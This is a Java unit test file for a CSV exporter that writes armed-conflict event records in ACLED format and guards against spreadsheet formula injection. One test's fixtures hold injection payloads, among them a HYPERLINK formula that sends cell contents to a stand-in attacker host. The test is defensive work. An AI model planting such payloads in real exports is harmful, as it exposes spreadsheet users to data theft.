package org.conflictledger.events.api.formats;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.conflictledger.contracts.ConflictEventType;
import org.conflictledger.contracts.GeoPrecision;
import org.conflictledger.contracts.Theater;
import org.conflictledger.events.api.ConflictEventRepresentation;
import org.conflictledger.events.domain.AcledSubType;
import org.conflictledger.events.domain.ConflictEventDetails;
import org.conflictledger.events.domain.Location;
import org.junit.jupiter.api.Test;

class AcledCsvWriterTest {

    private final Fixtures fixtures = new Fixtures();
    private final UUID id = UUID.fromString("0b9a3a5e-7d1c-4f4e-9f53-2f1f0f5f6a01");

    @Test
    void headerListsAcledColumnsInAcledOrderThenLedgerColumns() {
        String csv = AcledCsvWriter.toCsv(List.of());

        assertThat(csv).isEqualTo(String.join(",", AcledCsv.COLUMNS) + "\r\n");
        assertThat(csv).startsWith("event_id_cnty,event_date,year,time_precision,disorder_type,event_type,"
                + "sub_event_type,actor1,assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,"
                + "civilian_targeting,iso,region,country,admin1,admin2,admin3,location,latitude,longitude,"
                + "geo_precision,source,source_scale,notes,fatalities,tags,timestamp,ledger_");
        assertThat(AcledCsv.LEDGER_COLUMNS).allMatch(column -> column.startsWith("ledger_"));
    }

    @Test
    void battleRowSpeaksAcled() {
        Map<String, String> row = row(fixtures.representation(id, fixtures.battle()));

        assertThat(row).containsEntry("event_id_cnty", "AZE6012")
                .containsEntry("event_date", "2020-09-27")
                .containsEntry("year", "2020")
                .containsEntry("time_precision", "1")
                .containsEntry("disorder_type", "Political violence")
                .containsEntry("event_type", "Battles")
                .containsEntry("sub_event_type", "Armed clash")
                .containsEntry("actor1", "Azerbaijan")
                .containsEntry("assoc_actor_1", "Turkey")
                .containsEntry("actor2", "Armenia")
                .containsEntry("assoc_actor_2", "Republic of Artsakh; Civilians (Armenia)")
                .containsEntry("iso", "31")
                .containsEntry("region", "Caucasus and Central Asia")
                .containsEntry("country", "Azerbaijan")
                .containsEntry("admin1", "Tartar")
                .containsEntry("admin2", "Tartar District")
                .containsEntry("admin3", "Sarov")
                .containsEntry("location", "Tartar")
                .containsEntry("latitude", "40.3404")
                .containsEntry("longitude", "46.9304")
                .containsEntry("geo_precision", "2")
                .containsEntry("source", "Azerbaijan Ministry of Defence statement; "
                        + "Armenia says Azerbaijan attacked, \"war\" declared")
                .containsEntry("fatalities", "20")
                .containsEntry("timestamp", Long.toString(Fixtures.UPDATED_AT.getEpochSecond()))
                .containsEntry("ledger_id", id.toString())
                .containsEntry("ledger_theater", "NAGORNO_KARABAKH")
                .containsEntry("ledger_type", "BATTLE")
                .containsEntry("ledger_actors", "AZE:PERPETRATOR;ARM:TARGET;TUR:SUPPORTER;ARTSAKH:TARGET;"
                        + "CIV-ARM:AFFECTED")
                .containsEntry("ledger_fatalities_low", "12")
                .containsEntry("ledger_fatalities_high", "35")
                .containsEntry("ledger_confidence", "0.8")
                .containsEntry("ledger_geo_precision", "NEAR")
                .containsEntry("ledger_ucdp_ged_id", "245123")
                .containsEntry("ledger_status", "CONFIRMED")
                .containsEntry("ledger_version", "3");
        assertThat(row.get("civilian_targeting")).isEmpty();
        assertThat(row.get("inter1")).isEmpty();
        assertThat(row.get("ledger_sources")).startsWith("[{\"title\":\"Azerbaijan Ministry of Defence statement\","
                + "\"publisher\":\"MoD Azerbaijan\",\"url\":\"https://mod.gov.az/en/news/1\",\"date\":\"2020-09-27\"}");
    }

    @Test
    void ceasefireViolationByShellingIsExportedAsExplosionsWithItsOwnPrecisions() {
        Map<String, String> row = row(fixtures.representation(id, fixtures.violation(UUID.randomUUID(), null)));

        assertThat(row).containsEntry("disorder_type", "Political violence")
                .containsEntry("event_type", "Explosions/Remote violence")
                .containsEntry("sub_event_type", "Shelling/artillery/missile attack")
                .containsEntry("time_precision", "2")
                .containsEntry("geo_precision", "3")
                .containsEntry("ledger_geo_precision", "ADMIN1")
                .containsEntry("actor1", "Unidentified Armed Group")
                .containsEntry("actor2", "")
                .containsEntry("assoc_actor_2", "Armenia")
                .containsEntry("latitude", "")
                .containsEntry("fatalities", "")
                .containsEntry("ledger_sources", "[]");
        assertThat(row.get("ledger_actors")).startsWith(fixtures.unkeyed.id() + ":PERPETRATOR;ARM:AFFECTED");
    }

    @Test
    void signatoriesFaceEachOtherAsActor1AndActor2WithTheMediatorAssociated() {
        Map<String, String> row = row(fixtures.representation(id, fixtures.agreement()));

        assertThat(row).containsEntry("disorder_type", "Strategic developments")
                .containsEntry("event_type", "Strategic developments")
                .containsEntry("sub_event_type", "Agreement")
                .containsEntry("time_precision", "3")
                .containsEntry("actor1", "Azerbaijan")
                .containsEntry("actor2", "Armenia")
                .containsEntry("assoc_actor_1", "Russia")
                .containsEntry("country", "")
                .containsEntry("fatalities", "0")
                .containsEntry("ledger_confidence", "1.0");
    }

    @Test
    void disorderTypeFollowsTheType() {
        assertThat(AcledCsv.disorderType(ConflictEventType.PROTEST)).isEqualTo("Demonstrations");
        assertThat(AcledCsv.disorderType(ConflictEventType.RIOT)).isEqualTo("Demonstrations");
        assertThat(AcledCsv.disorderType(ConflictEventType.VIOLENCE_AGAINST_CIVILIANS))
                .isEqualTo("Political violence");
        assertThat(AcledCsv.disorderType(ConflictEventType.DEPLOYMENT))
                .isEqualTo("Strategic developments");
    }

    @Test
    void violenceAgainstCiviliansIsMarkedAsCivilianTargeting() {
        ConflictEventDetails battle = fixtures.battle();
        ConflictEventDetails attack = new ConflictEventDetails(battle.theater(),
                ConflictEventType.VIOLENCE_AGAINST_CIVILIANS,
                AcledSubType.ATTACK, battle.date(), battle.datePrecision(), null,
                battle.location(), battle.actors(), null, null, null, null, null, null, List.of(), null, null, null);

        assertThat(row(fixtures.representation(id, attack))).containsEntry("civilian_targeting", "Civilian targeting")
                .containsEntry("event_type", "Violence against civilians");
    }

    @Test
    void fieldsWithCommasQuotesOrLineBreaksAreQuotedAndQuotesDoubled() {
        String csv = AcledCsvWriter.toCsv(List.of(fixtures.representation(id, fixtures.battle())));

        assertThat(csv).contains(",\"Fighting broke out along the line of contact, \"\"heavy shelling\"\" reported;\r\n"
                + "both sides blame the other.\",");
        assertThat(csv).contains(",Azerbaijan,Turkey,,Armenia,");
        assertThat(csv).contains(",\"Azerbaijan Ministry of Defence statement; Armenia says Azerbaijan attacked,"
                + " \"\"war\"\" declared\",");
        assertThat(csv).endsWith("\r\n");
        assertThat(csv.replace("\r\n", "")).doesNotContain("\n");
    }

    @Test
    void decimalsAreWrittenWithoutExponent() {
        ConflictEventDetails battle = fixtures.battle();
        Location tiny = new Location("Null Island", null, null, null, null, 0.0001, -1.0E-5,
                GeoPrecision.EXACT);
        ConflictEventDetails atZero = new ConflictEventDetails(Theater.LIBYA, battle.type(), battle.subType(),
                battle.date(), battle.datePrecision(), null, tiny, battle.actors(), null, null, 1.0E-4, null, null,
                null, List.of(), null, null, null);

        Map<String, String> row = row(fixtures.representation(id, atZero));

        assertThat(row).containsEntry("latitude", "0.00010").containsEntry("longitude", "-0.000010")
                .containsEntry("ledger_confidence", "0.00010").containsEntry("iso", "");
    }

    @Test
    void textCellsASpreadsheetWouldReadAsFormulasStartWithAQuoteAndNumbersStayNumbers() {
        Map<String, String> row = row(fixtures.representation(id, Fixtures.formulas(fixtures.battle())));

        assertThat(row).containsEntry("notes", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
                .containsEntry("location", "'@SUM(1+1)")
                .containsEntry("admin1", "'+1")
                .containsEntry("admin2", "'-2+3")
                .containsEntry("admin3", "'\tcmd")
                .containsEntry("country", "'\r=1")
                .containsEntry("source", "'=1+1; plain title")
                .containsEntry("ledger_term", "''=already quoted")
                .containsEntry("event_id_cnty", "'-AZE1")
                .containsEntry("latitude", "-12.5")
                .containsEntry("longitude", "-0.75")
                .containsEntry("ledger_confidence", "0.8");
        assertThat(row.get("ledger_sources")).startsWith("[");
    }

    @Test
    void streamIsUtf8() throws Exception {
        ConflictEventDetails battle = fixtures.battle();
        ConflictEventDetails shusha = new ConflictEventDetails(battle.theater(), battle.type(), battle.subType(),
                LocalDate.of(2020, 11, 8), battle.datePrecision(), null,
                new Location("Şuşa", "Şuşa", null, null, "Azerbaijan", null, null, null), battle.actors(), null,
                "Şuşa — captured", null, null, null, null, List.of(), null, null, null);
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        AcledCsvWriter.write(List.of(fixtures.representation(id, shusha)), out);

        String text = out.toString(StandardCharsets.UTF_8);
        assertThat(text).contains(",Şuşa,").contains("Şuşa — captured");
        assertThat(out.toByteArray()).contains((byte) 0xC5, (byte) 0x9E); // Ş in UTF-8
    }

    /** The single data row of a one-event export, by column, read back with the package's CSV parser. */
    static Map<String, String> row(ConflictEventRepresentation event) {
        String csv = AcledCsvWriter.toCsv(List.of(event));
        try {
            Csv.Parser parser = new Csv.Parser(new StringReader(csv), Long.MAX_VALUE);
            List<String> header = parser.next().fields();
            List<String> values = parser.next().fields();
            assertThat(parser.next()).isNull();
            assertThat(values).hasSize(header.size());
            Map<String, String> row = new java.util.LinkedHashMap<>();
            for (int i = 0; i < header.size(); i++) {
                row.put(header.get(i), values.get(i));
            }
            return row;
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
